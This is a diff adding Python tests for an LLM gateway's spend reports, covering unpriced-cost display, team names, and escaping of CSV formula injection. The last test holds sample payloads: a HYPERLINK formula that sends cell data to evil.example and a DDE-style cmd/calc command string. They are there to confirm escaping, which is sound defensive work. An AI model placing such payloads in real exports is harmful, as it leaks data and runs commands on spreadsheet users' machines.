@@ -136,5 +136,50 @@ def test_html_report_renders_in_headless_chromium(svc, tmp_path):
     total = float(re.search(r'id="total-cost" data-value="([0-9.]+)"', dom).group(1))
     from gateway.spend.reports_render import to_csv
 
-    csv_total = sum(float(r["cost_usd"]) for r in csv.DictReader(io.StringIO(to_csv(rows, q.by))))
-    assert total == pytest.approx(csv_total)
+    cells = [r["cost_usd"] for r in csv.DictReader(io.StringIO(to_csv(rows, q.by)))]
+    assert "" in cells  # a wholly unpriced group has no cost (not 0.0); the total is of the priced ones
+    assert total == pytest.approx(sum(float(c) for c in cells if c))
+
+
+def test_no_format_prints_zero_for_an_unpriced_group_and_names_sit_beside_ids(svc, monkeypatch):
+    """Reproduced: table, CSV and JSON printed cost_usd 0.0 for unpriced groups; teams and keys were ids only."""
+    from gateway.spend.reports_render import to_csv, to_json, to_table
+
+    monkeypatch.setenv("SLUICE_KEY_SECRET", "report-secret")
+    team = svc.store.create_team("ml-platform")
+    insert_rows(svc.engine, [row("named", ts=DAY0 + 7, cost=0.5, team_id=team.id, day="2025-11-24"),
+                             row("partial", ts=DAY0 + 8, cost=0.25, team_id=team.id, day="2025-11-24",
+                                 partially_priced=True)])
+    q = ReportQuery(by=["model"])
+    rows = {r["model"]: r for r in grouped(svc.engine, q)}
+    assert rows["mystery"]["cost_usd"] is None and rows["mystery"]["price_state"] == "unpriced"
+    assert rows["gpt-4o"]["price_state"] == "partial"  # one partially priced row: its cost is a lower bound
+    assert rows["claude"]["price_state"] == "priced"
+    n, cost = rows["claude"]["requests"], rows["claude"]["cost_usd"]
+    assert rows["claude"]["cost_per_1k_requests"] == pytest.approx(cost / n * 1000)
+    table = to_table(list(rows.values()), q.by)
+    (line,) = [x for x in table.splitlines() if "mystery" in x]
+    assert "unpriced" in line and "0.000000" not in line.split("mystery", 1)[1].split("│")[2]
+    (csv_row,) = [r for r in csv.DictReader(io.StringIO(to_csv(list(rows.values()), q.by))) if r["model"] == "mystery"]
+    assert csv_row["cost_usd"] == "" and csv_row["price_state"] == "unpriced"
+    import orjson
+    (json_row,) = [r for r in orjson.loads(to_json(list(rows.values()), q.by))["rows"] if r["model"] == "mystery"]
+    assert json_row["cost_usd"] is None
+    by_team = grouped(svc.engine, ReportQuery(by=["team"]))
+    assert {r["team"]: r["team_name"] for r in by_team}[team.id] == "ml-platform"
+    assert ",ml-platform," in to_csv(by_team, ["team"])
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(svc):
+    """Reproduced: =HYPERLINK(...) (a model name from an unauthenticated client) and @SUM(...) (a
+    key's user) reached spend CSVs unescaped."""
+    from gateway.spend.reports_render import to_csv
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    insert_rows(svc.engine, [row("evil", ts=DAY0 + 9, cost=0.1, requested_model=evil, user_id="@SUM(1+1)*cmd|' /C calc'!A0"),
+                             row("tab", ts=DAY0 + 10, cost=0.1, requested_model="\t=1+1", user_id="-2+3")])
+    out = to_csv(grouped(svc.engine, ReportQuery(by=["model", "user"])), ["model", "user"])
+    cells = [c for r in csv.reader(io.StringIO(out)) for c in r]
+    assert "'" + evil in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+    assert "'\t=1+1" in cells and "'-2+3" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not c[1:2].isdigit())]
